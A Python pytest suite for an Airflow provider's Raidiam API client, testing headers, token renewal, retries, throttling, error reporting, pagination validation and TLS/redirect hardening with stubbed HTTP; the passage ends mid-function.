"""``RaidiamClient`` API calls: URLs, headers, token renewal on 401, retries, errors, paging, fan-out.

HTTP is stubbed with ``responses`` except where the real adapter must run (per-request TLS arguments,
plain HTTP, the environment): those tests aim at a closed local port and never leave the machine.
"""

from __future__ import annotations

import contextlib
import json
import logging
import random
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import parse_qs, urlsplit

import jwt
import pytest
import requests
import responses

from airflow_provider_raidiam.client import RaidiamClient
from airflow_provider_raidiam.credentials import TlsMaterial
from airflow_provider_raidiam.exceptions import (
    ApiError,
    BindingError,
    ConfigurationError,
    DiscoveryError,
    ForeignHostError,
    PaginationError,
    RedirectError,
    ResponseFormatError,
    ThrottledError,
)
from airflow_provider_raidiam.http import INTERACTION_HEADER

CLOSED_PORT_URL = "https://127.0.0.1:1/nothing-listens-here"


@pytest.fixture
def client(tls_settings: Callable[..., Any], kit: Any, shared_tls: TlsMaterial) -> Iterator[RaidiamClient]:
    with RaidiamClient(tls_settings(), retry=kit.FAST_RETRY) as raidiam:
        raidiam.tls = shared_tls  # type: ignore[misc]  # pre-fill the cached property
        yield raidiam


@pytest.fixture
def closed_port_client(tls_settings: Callable[..., Any], kit: Any, shared_tls: TlsMaterial) -> Iterator[RaidiamClient]:
    """A client whose api_base_url is a closed local port: real adapter, no network."""
    settings = tls_settings(api_base_url="https://127.0.0.1:1", participants_url=CLOSED_PORT_URL)
    with RaidiamClient(settings, retry=kit.FAST_RETRY) as raidiam:
        raidiam.tls = shared_tls  # type: ignore[misc]  # pre-fill the cached property
        yield raidiam


def test_client_builds_its_tls_material_from_the_settings(
    tls_settings: Callable[..., Any], kit: Any, pki: Any, api: responses.RequestsMock
) -> None:
    token = jwt.encode({"cnf": {"x5t#S256": pki.thumbprint("tls-client")}}, "k" * 32, algorithm="HS256")
    api.replace(responses.POST, kit.MTLS_TOKEN_ENDPOINT, json=kit.token_body(token))

    with RaidiamClient(tls_settings(), retry=kit.FAST_RETRY) as raidiam:
        assert raidiam.tls.certificate is not None
        assert raidiam.tls.certificate.thumbprint == pki.thumbprint("tls-client")
        assert raidiam.tls.mtls_context is not None
        # The token bound to this certificate passes the binding check.
        assert raidiam.access_token() == token


@pytest.fixture
def api(mocked: responses.RequestsMock, kit: Any) -> responses.RequestsMock:
    """``mocked`` with discovery and a token endpoint issuing tok-1, tok-2, ... in turn."""
    kit.register_discovery(mocked)
    counter = iter(range(1, 1000))

    def token(_request: Any) -> tuple[int, dict[str, str], str]:
        return 200, {"Content-Type": "application/json"}, kit.json(kit.token_body(f"tok-{next(counter)}"))

    mocked.add_callback(responses.POST, kit.MTLS_TOKEN_ENDPOINT, callback=token)
    return mocked


def api_calls(mock: responses.RequestsMock, kit: Any) -> list[Any]:
    return [c.request for c in mock.calls if (c.request.url or "").startswith(kit.API_BASE)]


def token_posts(mock: responses.RequestsMock) -> list[Any]:
    return [c.request for c in mock.calls if c.request.method == "POST" and (c.request.url or "").endswith("/token")]


def query(request: Any) -> dict[str, str]:
    return {key: values[0] for key, values in parse_qs(urlsplit(request.url).query).items()}


# -- URLs and headers ------------------------------------------------------------------------------


@pytest.mark.parametrize("endpoint", ["/organisations", "organisations"])
def test_relative_endpoint_is_joined_to_api_base_url(
    client: RaidiamClient, api: responses.RequestsMock, kit: Any, endpoint: str
) -> None:
    api.add(responses.GET, kit.API_BASE + "/organisations", json=[])

    client.get_json(endpoint)

    assert api_calls(api, kit)[0].url == kit.API_BASE + "/organisations"


def test_params_are_sent(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    api.add(responses.GET, kit.API_BASE + "/organisations", json=[])

    client.get_json("/organisations", {"status": "Active", "size": 5})

    assert query(api_calls(api, kit)[0]) == {"status": "Active", "size": "5"}


def test_absolute_https_url_is_used_as_is(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    url = kit.API_BASE + "/organisations/abc/softwarestatements"
    api.add(responses.GET, url, json=[])

    client.get_json(url)

    assert api_calls(api, kit)[0].url == url


def test_plain_http_url_is_refused_before_sending(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    with pytest.raises(ConfigurationError, match="https:// only"):
        client.get_json("http://matls-api.example.test/organisations")

    assert len(api.calls) == 0


def test_no_api_base_url(tls_settings: Callable[..., Any], kit: Any) -> None:
    client = RaidiamClient(tls_settings(api_base_url=None), retry=kit.FAST_RETRY)

    with pytest.raises(ConfigurationError) as caught:
        client.get_json("/organisations")

    assert "no api_base_url" in str(caught.value)
    assert "'api_base_url'" in str(caught.value)


def test_bearer_token_and_interaction_id_on_every_request(
    client: RaidiamClient, api: responses.RequestsMock, kit: Any
) -> None:
    api.add(responses.GET, kit.API_BASE + "/organisations", json=[])

    for _ in range(3):
        client.get_json("/organisations")

    calls = api_calls(api, kit)
    assert len(calls) == 3
    assert [c.headers["Authorization"] for c in calls] == ["Bearer tok-1"] * 3
    assert all(c.headers["Accept"] == "application/json" for c in calls)
    ids = [c.headers[INTERACTION_HEADER] for c in calls]
    assert len(set(ids)) == 3
    assert all(str(uuid.UUID(value)) == value for value in ids)
    assert len(token_posts(api)) == 1
    # The token was requested over the mTLS alias, and discovery once.
    assert token_posts(api)[0].url == kit.MTLS_TOKEN_ENDPOINT
    assert [c.request.url for c in api.calls if c.request.url == kit.DISCOVERY_URL] == [kit.DISCOVERY_URL]


def test_caller_headers_are_added(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    api.add(responses.GET, kit.API_BASE + "/organisations", json=[])

    client.request("GET", "/organisations", headers={"X-Extra": "1"})

    sent = api_calls(api, kit)[0].headers
    assert sent["X-Extra"] == "1"
    assert sent["Authorization"] == "Bearer tok-1"


def test_public_request_sends_no_token(
    tls_settings: Callable[..., Any], kit: Any, mocked: responses.RequestsMock
) -> None:
    url = "https://data.example.test/participants"
    mocked.add(responses.GET, url, json=[{"OrganisationId": "o1"}])

    with RaidiamClient(tls_settings(participants_url=url), retry=kit.FAST_RETRY) as client:
        assert client.get_public_json(url) == [{"OrganisationId": "o1"}]

    sent = mocked.calls[0].request
    assert "Authorization" not in sent.headers
    assert INTERACTION_HEADER in sent.headers
    assert len(mocked.calls) == 1  # no discovery, no token


def test_public_session_reaches_only_configured_or_explicitly_allowed_hosts(
    client: RaidiamClient, mocked: responses.RequestsMock
) -> None:
    url = "https://data.example.test/participants"
    mocked.add(responses.GET, url, json=[])

    with pytest.raises(ForeignHostError, match="the public session"):
        client.get_public_json(url)
    assert len(mocked.calls) == 0
    client.allow_public(url)
    assert client.get_public_json(url) == []


def test_unsupported_auth_method_is_reported(client: RaidiamClient, mocked: responses.RequestsMock, kit: Any) -> None:
    kit.register_discovery(mocked, token_endpoint_auth_methods_supported=["private_key_jwt"])

    with pytest.raises(DiscoveryError) as caught:
        client.access_token()

    assert "does not support auth_method 'tls_client_auth'" in str(caught.value)
    assert "['private_key_jwt']" in str(caught.value)


@pytest.mark.parametrize("with_certificate", [False, True])
def test_private_key_jwt_routing_and_assertion(
    tls_settings: Callable[..., Any], kit: Any, pki: Any, mocked: responses.RequestsMock, with_certificate: bool
) -> None:
    kit.register_discovery(mocked)
    expected_endpoint = kit.MTLS_TOKEN_ENDPOINT if with_certificate else kit.TOKEN_ENDPOINT
    mocked.add(responses.POST, expected_endpoint, json=kit.token_body("tok-pkj"))
    extra: dict[str, Any] = {
        "auth_method": "private_key_jwt",
        "signing_private_key": str(pki.signing_key("rsa")),
        "signing_key_id": pki.signing_key_id("rsa"),
    }
    if not with_certificate:
        extra.update(transport_cert=None, transport_private_key=None)
    client = RaidiamClient(tls_settings(**extra), retry=kit.FAST_RETRY)

    assert client.access_token() == "tok-pkj"

    post = token_posts(mocked)[0]
    assert post.url == expected_endpoint
    form = kit.form_of(post)
    claims = jwt.decode(
        form["client_assertion"],
        jwt.PyJWK(pki.signing_jwk("rsa")).key,
        algorithms=["PS256"],
        audience=kit.ISSUER,
    )
    assert claims["iss"] == claims["sub"] == kit.CLIENT_ID
    assert (client.tls.certificate is not None) is with_certificate


def test_bound_token_without_certificate_is_refused(
    tls_settings: Callable[..., Any], kit: Any, pki: Any, mocked: responses.RequestsMock
) -> None:
    kit.register_discovery(mocked)
    bound = jwt.encode({"cnf": {"x5t#S256": pki.thumbprint("tls-client")}}, "k" * 32, algorithm="HS256")
    mocked.add(responses.POST, kit.TOKEN_ENDPOINT, json=kit.token_body(bound))
    settings = tls_settings(
        auth_method="private_key_jwt",
        signing_private_key=str(pki.signing_key("rsa")),
        transport_cert=None,
        transport_private_key=None,
    )

    with pytest.raises(BindingError, match="no transport certificate"):
        RaidiamClient(settings, retry=kit.FAST_RETRY).access_token()


# -- 401 -------------------------------------------------------------------------------------------


def test_401_drops_the_token_and_retries_once_with_a_new_one(
    client: RaidiamClient, api: responses.RequestsMock, kit: Any
) -> None:
    api.add(responses.GET, kit.API_BASE + "/organisations", status=401)
    api.add(responses.GET, kit.API_BASE + "/organisations", json=[{"id": 1}])

    assert client.get_json("/organisations") == [{"id": 1}]

    calls = api_calls(api, kit)
    assert [c.headers["Authorization"] for c in calls] == ["Bearer tok-1", "Bearer tok-2"]
    assert len(token_posts(api)) == 2
    assert client.access_token() == "tok-2"  # the new token is the cached one


def test_second_401_is_an_api_error(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    api.add(
        responses.GET,
        kit.API_BASE + "/organisations",
        status=401,
        headers={"WWW-Authenticate": 'Bearer error="invalid_token"'},
    )

    with pytest.raises(ApiError) as caught:
        client.get_json("/organisations")

    assert caught.value.status == 401
    assert "same transport certificate" in str(caught.value)
    assert 'error="invalid_token"' in str(caught.value)
    assert len(api_calls(api, kit)) == 2
    assert len(token_posts(api)) == 2


EXPIRED = {"WWW-Authenticate": 'Bearer error="invalid_token", error_description="Signature has expired"'}


def test_401_for_an_expired_token_renews_up_to_five_times(
    client: RaidiamClient, api: responses.RequestsMock, kit: Any, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, logger="airflow_provider_raidiam")
    for _ in range(5):  # a busy machine: each new token expires again before the request reaches the API
        api.add(responses.GET, kit.API_BASE + "/organisations", status=401, headers=EXPIRED)
    api.add(responses.GET, kit.API_BASE + "/organisations", json=[{"id": 1}])

    assert client.get_json("/organisations") == [{"id": 1}]

    calls = api_calls(api, kit)
    assert [c.headers["Authorization"] for c in calls] == [f"Bearer tok-{n}" for n in range(1, 7)]
    renewals = [r.getMessage() for r in caplog.records if "renewing the access token" in r.getMessage()]
    assert len(renewals) == 5
    assert all("(the token expired)" in message for message in renewals)


def test_401_for_an_expired_token_is_an_error_after_five_renewals(
    client: RaidiamClient, api: responses.RequestsMock, kit: Any
) -> None:
    api.add(responses.GET, kit.API_BASE + "/organisations", status=401, headers=EXPIRED)

    with pytest.raises(ApiError) as caught:
        client.get_json("/organisations")

    assert caught.value.status == 401
    assert "Signature has expired" in str(caught.value)
    assert len(api_calls(api, kit)) == 6
    assert len(token_posts(api)) == 6


# -- retries ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("status", [500, 502, 503, 504, 429])
def test_transient_statuses_are_retried(
    client: RaidiamClient, api: responses.RequestsMock, kit: Any, status: int
) -> None:
    api.add(responses.GET, kit.API_BASE + "/organisations", status=status)
    api.add(responses.GET, kit.API_BASE + "/organisations", json={"ok": True})

    assert client.get_json("/organisations") == {"ok": True}
    assert len(api_calls(api, kit)) == 2


def test_retries_give_up_with_an_api_error(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    api.add(responses.GET, kit.API_BASE + "/organisations", status=503)

    with pytest.raises(ApiError) as caught:
        client.get_json("/organisations")

    assert caught.value.status == 503
    assert "kept failing after the retries" in str(caught.value)
    assert len(api_calls(api, kit)) == kit.FAST_RETRY.attempts


def test_non_idempotent_requests_are_not_retried(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    api.add(responses.POST, kit.API_BASE + "/organisations", status=503)

    with pytest.raises(ApiError):
        client.request("POST", "/organisations", json={"name": "x"})

    assert len(api_calls(api, kit)) == 1


def test_connection_errors_are_retried_then_reported(
    client: RaidiamClient, api: responses.RequestsMock, kit: Any
) -> None:
    api.add(responses.GET, kit.API_BASE + "/organisations", body=requests.ConnectionError("reset by peer"))

    with pytest.raises(ApiError) as caught:
        client.get_json("/organisations")

    raised = caught.value
    assert raised.status is None
    assert "ConnectionError" in str(raised)
    assert raised.interaction_id is not None
    assert raised.interaction_id in str(raised)
    assert "tok-1" not in str(raised)
    assert len(api_calls(api, kit)) == kit.FAST_RETRY.attempts


def test_429_pauses_the_clients_workers_as_long_as_retry_after_says(
    tls_settings: Callable[..., Any], api: responses.RequestsMock, kit: Any, fake_clock: Any
) -> None:
    client = RaidiamClient(tls_settings(), retry=fake_clock.policy(max_wait=10))
    api.add(responses.GET, kit.API_BASE + "/organisations", status=429, headers={"Retry-After": "7"})
    api.add(responses.GET, kit.API_BASE + "/organisations", json=[])
    api.add(responses.GET, kit.API_BASE + "/organisations", json=[])

    client.get_json("/organisations")
    assert fake_clock.sleeps == [7.0]
    assert client.throttle.refusals == {429: 1}
    assert [(p.start, p.end) for p in client.throttle.pauses] == [(1000.0, 1007.0)]

    client.get_json("/organisations")  # the pause is over: no more waiting
    assert fake_clock.sleeps == [7.0]


def test_429_refusing_everything_for_throttle_timeout_is_a_throttled_error(
    tls_settings: Callable[..., Any], api: responses.RequestsMock, kit: Any, fake_clock: Any
) -> None:
    client = RaidiamClient(tls_settings(), retry=fake_clock.policy(throttle_timeout=60, max_wait=20))
    api.add(responses.GET, kit.API_BASE + "/organisations", status=429)

    with pytest.raises(ThrottledError, match=r"refused every request of this client for 6\d s") as caught:
        client.get_json("/organisations")

    assert caught.value.status == 429
    assert sum(fake_clock.sleeps) >= 60


def test_connection_throttle_settings_reach_the_client(tls_settings: Callable[..., Any]) -> None:
    client = RaidiamClient(tls_settings(throttle_timeout=42, max_requests_per_second=7.5))
    assert client.retry.throttle_timeout == 42
    assert client.throttle.rate == 7.5


# -- error responses -------------------------------------------------------------------------------


def test_404_is_an_api_error_with_raidiam_errors(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    url = kit.API_BASE + "/organisations/missing"
    api.add(responses.GET, url, status=404, json={"errors": ["Organisation not found", "check the id"]})

    with pytest.raises(ApiError) as caught:
        client.get_json("/organisations/missing")

    raised = caught.value
    sent_id = api_calls(api, kit)[0].headers[INTERACTION_HEADER]
    assert raised.status == 404
    assert raised.errors == ["Organisation not found", "check the id"]
    assert raised.interaction_id == sent_id
    assert raised.url == url
    message = str(raised)
    assert "HTTP 404" in message
    assert "Organisation not found; check the id" in message
    assert "Check the endpoint path" in message
    assert sent_id in message
    assert "tok-1" not in message
    assert len(api_calls(api, kit)) == 1  # not retried


def test_server_interaction_id_wins(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    api.add(responses.GET, kit.API_BASE + "/x", status=403, json={"errors": []}, headers={INTERACTION_HEADER: "srv-1"})

    with pytest.raises(ApiError) as caught:
        client.get_json("/x")

    assert caught.value.interaction_id == "srv-1"
    assert "scope or roles" in str(caught.value)


def test_error_with_html_body(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    api.add(responses.GET, kit.API_BASE + "/x", status=400, body="<html>bad</html>", content_type="text/html")

    with pytest.raises(ApiError) as caught:
        client.get_json("/x")

    assert caught.value.errors == []
    assert caught.value.status == 400


def test_raise_for_status_false_returns_the_response(
    client: RaidiamClient, api: responses.RequestsMock, kit: Any
) -> None:
    api.add(responses.GET, kit.API_BASE + "/x", status=404, json={"errors": ["nope"]})

    response = client.request("GET", "/x", raise_for_status=False)

    assert response.status_code == 404


@pytest.mark.parametrize("body", ["<html>maintenance</html>", '{"content": [', ""], ids=["html", "truncated", "empty"])
def test_non_json_success_body(client: RaidiamClient, api: responses.RequestsMock, kit: Any, body: str) -> None:
    api.add(responses.GET, kit.API_BASE + "/organisations", body=body, content_type="text/html")

    with pytest.raises(ResponseFormatError) as caught:
        client.get_json("/organisations")

    assert isinstance(caught.value, ApiError)
    assert caught.value.status == 200
    assert "not valid JSON" in str(caught.value)
    assert f"{len(body)} bytes" in str(caught.value)


# -- paging ----------------------------------------------------------------------------------------


def serve_pages(
    mock: responses.RequestsMock,
    url: str,
    records: list[dict[str, Any]],
    *,
    total_size: Callable[[int, int], int] | None = None,
) -> list[dict[str, str]]:
    """Serve ``records`` as Raidiam page envelopes; returns the query of every page request.

    ``total_size(page, request_number)`` may lie about ``totalSize``.
    """
    seen: list[dict[str, str]] = []

    def callback(request: Any) -> tuple[int, dict[str, str], str]:
        params = query(request)
        seen.append(params)
        page, size = int(params["page"]), int(params["size"])
        content = records[page * size : (page + 1) * size]
        total_pages = max(1, -(-len(records) // size))
        total = total_size(page, len(seen)) if total_size else len(records)
        body = {
            "content": content,
            "totalPages": total_pages,
            "totalSize": total,
            "pageNumber": page,
            "size": size,
            "numberOfElements": len(content),
            "empty": not content,
        }
        return 200, {"Content-Type": "application/json"}, json.dumps(body)

    mock.add_callback(responses.GET, url, callback=callback)
    return seen


def test_paginate_reads_every_page(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    records = [{"id": i} for i in range(7)]
    seen = serve_pages(api, kit.API_BASE + "/organisations", records)

    result = list(client.paginate("/organisations", {"status": "Active"}, page_size=3))

    assert result == records
    assert sorted(int(p["page"]) for p in seen) == [0, 1, 2]
    assert seen[0]["page"] == "0"
    assert all(p["size"] == "3" for p in seen)
    assert all(p["status"] == "Active" for p in seen)


def test_paginate_uses_the_connection_page_size(
    tls_settings: Callable[..., Any], api: responses.RequestsMock, kit: Any
) -> None:
    client = RaidiamClient(tls_settings(page_size="4"), retry=kit.FAST_RETRY)
    seen = serve_pages(api, kit.API_BASE + "/organisations", [{"id": i} for i in range(5)])

    assert len(client.paginate("/organisations")) == 5
    assert [p["size"] for p in seen] == ["4", "4"]


def test_empty_envelope(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    api.add(responses.GET, kit.API_BASE + "/x", json={"content": [], "totalPages": 0, "totalSize": 0})

    assert list(client.paginate("/x")) == []
    assert len(api_calls(api, kit)) == 1


def test_plain_array_passes_through(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    api.add(responses.GET, kit.API_BASE + "/participants", json=[{"a": 1}, {"a": 2}])

    assert list(client.paginate("/participants")) == [{"a": 1}, {"a": 2}]
    assert len(api_calls(api, kit)) == 1


def test_record_count_not_matching_total_size(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    api.add(responses.GET, kit.API_BASE + "/x", json={"content": [{"id": 1}], "totalPages": 1, "totalSize": 3})

    with pytest.raises(PaginationError) as caught:
        list(client.paginate("/x"))

    assert "/x page 0: 1 records" in str(caught.value)
    assert "totalSize 3, so 3 here" in str(caught.value)
    assert caught.value.url == kit.API_BASE + "/x"


@pytest.mark.parametrize("page_size", [0, -1, 50_001, 2.0, "10", True])
def test_page_size_out_of_range_is_refused_before_any_request(
    client: RaidiamClient, api: responses.RequestsMock, kit: Any, page_size: Any
) -> None:
    # Before the fix, 0 fell back to the connection's page size and 50,001 was sent as is.
    with pytest.raises(ConfigurationError, match="page_size must be a whole number from 1 to 50000"):
        client.paginate("/x", page_size=page_size)
    assert api_calls(api, kit) == []


def test_total_pages_that_lies_costs_one_request(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    # Before the fix: 20,000 authenticated GETs, then OK.
    api.add(responses.GET, kit.API_BASE + "/x", json={"content": [{"id": 1}], "totalPages": 20000, "totalSize": 1})

    with pytest.raises(PaginationError) as caught:
        list(client.paginate("/x", page_size=50))

    assert "totalPages 20000 for totalSize 1 in pages of 50, which makes 1" in str(caught.value)
    assert len(api_calls(api, kit)) == 1


@pytest.mark.parametrize(
    ("total_pages", "total_size", "size", "ok"),
    [
        (0, 0, None, True),
        (1, 0, None, True),  # an empty result may say 0 or 1 pages
        (2, 0, None, False),
        (3, 7, None, True),
        (2, 7, None, False),  # too few pages would lose records
        (4, 7, None, False),
        (4, 7, 2, True),  # the server's own (smaller) page size counts
        (3, 7, 2, False),
    ],
)
def test_total_pages_must_be_ceil_of_total_size_over_size(
    client: RaidiamClient,
    api: responses.RequestsMock,
    kit: Any,
    total_pages: int,
    total_size: int,
    size: int | None,
    ok: bool,
) -> None:
    records = [{"id": i} for i in range(total_size)]
    page_size = size or 3

    def callback(request: Any) -> tuple[int, dict[str, str], str]:
        page = int(query(request)["page"])
        body: dict[str, Any] = {"content": records[page * page_size : (page + 1) * page_size]}
        body.update({"totalPages": total_pages, "totalSize": total_size} | ({"size": size} if size else {}))
        return 200, {}, kit.json(body)

    api.add_callback(responses.GET, kit.API_BASE + "/x", callback=callback)

    if ok:
        assert client.paginate("/x", page_size=3) == records
        assert len(api_calls(api, kit)) == max(total_pages, 1)
    else:
        with pytest.raises(PaginationError, match="no further page was requested"):
            client.paginate("/x", page_size=3)
        assert len(api_calls(api, kit)) == 1


def test_more_pages_than_max_pages_are_refused_before_reading_them(
    tls_settings: Callable[..., Any], api: responses.RequestsMock, kit: Any, shared_tls: TlsMaterial
) -> None:
    # 3,000,000 pages that add up: before the fix every one was submitted to the pool up front.
    body = {"content": [{"id": i} for i in range(1000)], "totalPages": 3_000_000, "totalSize": 3_000_000_000}
    api.add(responses.GET, kit.API_BASE + "/x", json=body)
    with RaidiamClient(tls_settings(), retry=kit.FAST_RETRY) as client:
        client.tls = shared_tls  # type: ignore[misc]

        with pytest.raises(PaginationError) as caught:
            client.paginate("/x", page_size=1000)

    assert "3000000 pages of 1000 (totalSize 3000000000) are more than max_pages 10000" in str(caught.value)
    assert "connection extra 'max_pages'" in str(caught.value)
    assert len(api_calls(api, kit)) == 1


def test_max_pages_comes_from_the_connection(
    tls_settings: Callable[..., Any], api: responses.RequestsMock, kit: Any, shared_tls: TlsMaterial
) -> None:
    serve_pages(api, kit.API_BASE + "/x", [{"id": i} for i in range(6)])
    with RaidiamClient(tls_settings(max_pages=5), retry=kit.FAST_RETRY) as client:
        client.tls = shared_tls  # type: ignore[misc]
        assert len(client.paginate("/x", page_size=2)) == 6  # 3 pages

        with pytest.raises(PaginationError, match=r"6 pages of 1 \(totalSize 6\) are more than max_pages 5"):
            client.paginate("/x", page_size=1)
    assert len(api_calls(api, kit)) == 3 + 1


def test_a_short_page_stops_the_read_after_a_bounded_number_of_requests(
    tls_settings: Callable[..., Any], api: responses.RequestsMock, kit: Any, shared_tls: TlsMaterial
) -> None:
    # Page 0 is full and promises 5,000 pages; every later page holds one record.
    def callback(request: Any) -> tuple[int, dict[str, str], str]:
        page = int(query(request)["page"])
        content = [{"id": page * 10 + i} for i in range(10 if page == 0 else 1)]
        return 200, {}, kit.json({"content": content, "totalPages": 5000, "totalSize": 50_000, "size": 10})

    api.add_callback(responses.GET, kit.API_BASE + "/x", callback=callback)
    with RaidiamClient(tls_settings(max_workers=4), retry=kit.FAST_RETRY) as client:
        client.tls = shared_tls  # type: ignore[misc]

        with pytest.raises(PaginationError) as caught:
            client.paginate("/x", page_size=10)

    assert "page 1: 1 records (totalPages 5000), but page 0 promised 5000 pages of 10" in str(caught.value)
    # page 0, then at most 2 * max_workers pages in flight when page 1 is found short
    assert len(api_calls(api, kit)) <= 1 + 2 * 4


@pytest.mark.parametrize("later", [{"totalPages": 4}, {"content": [{"id": 9}] * 3}], ids=["pages", "records"])
def test_a_later_page_must_agree_with_page_0(
    client: RaidiamClient, api: responses.RequestsMock, kit: Any, later: dict[str, Any]
) -> None:
    def callback(request: Any) -> tuple[int, dict[str, str], str]:
        page = int(query(request)["page"])
        body = {"content": [{"id": page * 2}, {"id": page * 2 + 1}], "totalPages": 3, "totalSize": 6}
        return 200, {}, kit.json(body | (later if page == 2 else {}))

    api.add_callback(responses.GET, kit.API_BASE + "/x", callback=callback)

    with pytest.raises(PaginationError, match=r"/x page 2: .*nothing was kept"):
        client.paginate("/x", page_size=2)


@pytest.mark.parametrize(
    "body",
    [
        {"content": [{"id": 1}], "totalPages": 1},
        {"content": {"id": 1}, "totalPages": 1, "totalSize": 1},
        {"content": [{"id": 1}], "totalPages": "1", "totalSize": 1},
        {"content": [{"id": 1}], "totalPages": -1, "totalSize": 1},
        {"content": [{"id": 1}], "totalPages": True, "totalSize": 1},
        {"content": [{"id": 1}], "totalPages": 1, "totalSize": 1, "size": 0},
        {"content": [1, 2], "totalPages": 1, "totalSize": 2},
        [1, 2],
        "text",
    ],
    ids=[
        "no-totalSize",
        "content-object",
        "string-pages",
        "negative",
        "boolean-pages",
        "zero-size",
        "scalar-records",
        "scalar-array",
        "string",
    ],
)
def test_malformed_envelope(client: RaidiamClient, api: responses.RequestsMock, kit: Any, body: Any) -> None:
    api.add(responses.GET, kit.API_BASE + "/x", json=body)

    with pytest.raises(ResponseFormatError) as caught:
        list(client.paginate("/x"))

    assert "/x page 0" in str(caught.value)


def test_total_size_change_restarts_the_read(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    records = [{"id": i} for i in range(4)]
    # The first read sees totalSize move on page 1; the second read is consistent.
    seen = serve_pages(
        api,
        kit.API_BASE + "/x",
        records,
        total_size=lambda page, number: 5 if (page == 1 and number <= 2) else len(records),
    )

    assert list(client.paginate("/x", page_size=2)) == records
    assert [p["page"] for p in seen].count("0") == 2


def test_total_size_that_keeps_changing(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    requests_seen: list[int] = []

    def callback(request: Any) -> tuple[int, dict[str, str], str]:
        requests_seen.append(int(query(request)["page"]))
        records = [{"id": i} for i in range(3 + len(requests_seen))]  # one record more on every request
        page = requests_seen[-1]
        body = {"content": records[page * 2 : page * 2 + 2], "totalPages": -(-len(records) // 2)}
        return 200, {}, kit.json(body | {"totalSize": len(records)})

    api.add_callback(responses.GET, kit.API_BASE + "/x", callback=callback)

    with pytest.raises(PaginationError) as caught:
        list(client.paginate("/x", page_size=2))

    assert "totalSize kept changing" in str(caught.value)
    assert "3 attempts" in str(caught.value)
    assert requests_seen.count(0) == 3


def test_failed_page_fails_the_read(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    def callback(request: Any) -> tuple[int, dict[str, str], str]:
        page = int(query(request)["page"])
        if page == 1:
            return 404, {}, kit.json({"errors": ["gone"]})
        return 200, {}, kit.json({"content": [{"id": page}], "totalPages": 3, "totalSize": 3})

    api.add_callback(responses.GET, kit.API_BASE + "/x", callback=callback)

    with pytest.raises(ApiError) as caught:
        list(client.paginate("/x", page_size=1))

    assert caught.value.status == 404
    assert caught.value.errors == ["gone"]


# -- TLS arguments, plain HTTP and the environment (real adapter, no network) -----------------------


@pytest.mark.parametrize(
    "kwargs",
    [{"verify": False}, {"verify": "/etc/ssl/other-ca.pem"}, {"cert": ("/a.pem", "/a.key")}, {"cert": "/a.pem"}],
)
def test_per_request_tls_arguments_are_refused(
    closed_port_client: RaidiamClient, api: responses.RequestsMock, kit: Any, kwargs: dict[str, Any]
) -> None:
    # The API call goes through the real adapter (discovery and token stay stubbed): refused, it raises
    # before connecting; accepted, it would reach the closed port and end as a connection error.
    api.add_passthru(CLOSED_PORT_URL)

    with pytest.raises(ConfigurationError) as caught:
        closed_port_client.request("GET", CLOSED_PORT_URL, **kwargs)

    assert "per-request 'verify' and 'cert' arguments are not accepted" in str(caught.value)


@pytest.mark.parametrize("kwargs", [{"verify": False}, {"cert": ("/a.pem", "/a.key")}])
def test_sessions_refuse_per_request_tls_arguments(client: RaidiamClient, kwargs: dict[str, Any]) -> None:
    for session in (client.mtls_session, client.public.session):
        with pytest.raises(ConfigurationError):
            session.get(CLOSED_PORT_URL, timeout=2, **kwargs)


def test_sessions_refuse_plain_http(client: RaidiamClient) -> None:
    for session in (client.mtls_session, client.public.session):
        with pytest.raises(ConfigurationError, match="Raidiam endpoints are https:// only"):
            session.get("http://127.0.0.1:1/", timeout=2)


def test_public_client_refuses_plain_http_url(client: RaidiamClient) -> None:
    with pytest.raises(ConfigurationError, match="https:// only"):
        client.get_public_json("http://data.example.test/participants")


def test_redirect_to_plain_http_is_refused(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    api.add(responses.GET, kit.API_BASE + "/x", status=302, headers={"Location": "http://matls-api.example.test/x"})

    with pytest.raises(RedirectError, match=r"redirecting to 'http://matls-api\.example\.test/x'"):
        client.get_json("/x")

    assert len(api_calls(api, kit)) == 1


def test_asking_to_follow_redirects_changes_nothing(
    client: RaidiamClient, api: responses.RequestsMock, kit: Any
) -> None:
    api.add(responses.GET, kit.API_BASE + "/x", status=307, headers={"Location": kit.API_BASE + "/y"})
    api.add(responses.GET, kit.API_BASE + "/y", json={})

    with pytest.raises(RedirectError):
        client.request("GET", "/x", allow_redirects=True)

    assert [call.url for call in api_calls(api, kit)] == [kit.API_BASE + "/x"]


def test_requests_ca_bundle_env_var_is_ignored(
    client: RaidiamClient, api: responses.RequestsMock, kit: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Any
) -> None:
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(tmp_path / "attacker-ca.pem"))
    monkeypatch.setenv("CURL_CA_BUNDLE", str(tmp_path / "attacker-ca.pem"))
    monkeypatch.setenv("HTTPS_PROXY", "http://127.0.0.1:9")
    api.add(responses.GET, kit.API_BASE + "/x", json=[])

    client.get_json("/x")

    for call in api.calls:
        sent: dict[str, Any] = call.request.req_kwargs  # type: ignore[attr-defined]  # added by responses
        assert sent["verify"] is True, call.request.url
        assert sent["cert"] is None
        assert not sent["proxies"]
    assert client.mtls_session.trust_env is False
    assert client.public.session.trust_env is False


def test_requests_ca_bundle_env_var_is_ignored_by_the_real_adapter(
